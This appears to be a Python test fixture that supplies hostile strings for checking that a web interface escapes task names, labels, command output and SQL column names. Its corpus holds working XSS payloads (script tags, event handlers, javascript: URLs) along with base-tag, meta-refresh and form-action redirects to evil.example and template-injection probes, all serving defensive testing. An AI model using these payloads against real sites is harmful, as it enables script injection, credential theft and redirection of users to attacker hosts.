"""What somebody writes who wants our pages to run it: names, labels, parameters, lines, errors, column names.

Each calls `hit()`, leads elsewhere, or tears the page apart. Knows no page.
"""

from typing import Any, Final

CORPUS: Final = (
    "<script>hit(1)</script>",
    '"><img src=x onerror=hit(2)>',
    "' onfocus=hit(3) autofocus='",
    "</title></style></textarea><svg/onload=hit(4)>",
    "</script><script>hit(5)</script>",
    '<a href="javascript:hit(6)">press</a>',
    "javascript:hit(7)",
    '<iframe srcdoc="<script>parent.hit(8)</script>">',
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example id=rows><input name=csrf id=q>",
    "{{ 7 * 7 }}{% include 'help.html' %}${7*7}",
    "<!--<b>--><plaintext>",
    "&lt;img src=x onerror=hit(9)&gt;",
    "\x1b[31m\x1b]8;;javascript:hit(10)\x07press\x1b]8;;\x07",
    "\u202e<b onmouseover=hit(11)>\u2066",
    "data: stop\n\nevent: reset\ndata: {}\n\n",
)
ALL: Final = " ".join(CORPUS)
INIT: Final = """
  window.hits = [];
  window.hit = (n) => window.hits.push(n);
  window.alert = window.prompt = window.confirm = () => window.hits.push("asked");
  document.addEventListener("securitypolicyviolation", (e) => window.hits.push("policy: " + e.violatedDirective));
"""
"""Given to a window before any page: writes down what ran, and what the policy had to stop."""
FOREIGN: Final = "img, iframe, base, meta[http-equiv], plaintext, object, embed, main script, main style, main link"
"""Elements that none of our pages has."""
TEXT: Final = "".join(letter for letter in ALL if letter.isprintable())


def task(operation: dict[str, Any]) -> dict[str, Any]:
    """The body of a task that has hostile text wherever text may be."""
    label = TEXT[:60]
    return {
        "name": TEXT[:200],
        "object": {"kind": "database", "name": TEXT[200:400], "id": TEXT[400:500]},
        "labels": {"note": TEXT[:200], label: TEXT[100:300]},
        "plan": {"subtasks": [{"key": "a", "name": TEXT[:200], "description": TEXT[:200], **operation}]},
    }


def script(words: str) -> dict[str, Any]:
    """A subtask that says all of it, and fails with it, once `words` have come to an end."""
    return {
        "operation": "command.run",
        "params": {
            "argv": ["sh", "-c", f'{words}\nfor one; do printf "%s\\n" "$one"; printf "%s\\n" "$one" >&2; done; exit 3',
                     "sh", *CORPUS],
        },
    }  # fmt: skip


def query() -> str:
    """A script whose columns, cells and errors are hostile."""
    columns = ", ".join(f"{_text(one)} AS {_name(one)}" for one in CORPUS)
    return f"SELECT {columns}; SELECT * FROM {_name(ALL)}"


def _text(text: str) -> str:
    return "'" + text.replace("'", "''").replace("\x1b", "").replace("\x07", "") + "'"


def _name(text: str) -> str:
    return '"' + text.replace('"', '""').replace("\x1b", "").replace("\x07", "") + '"'
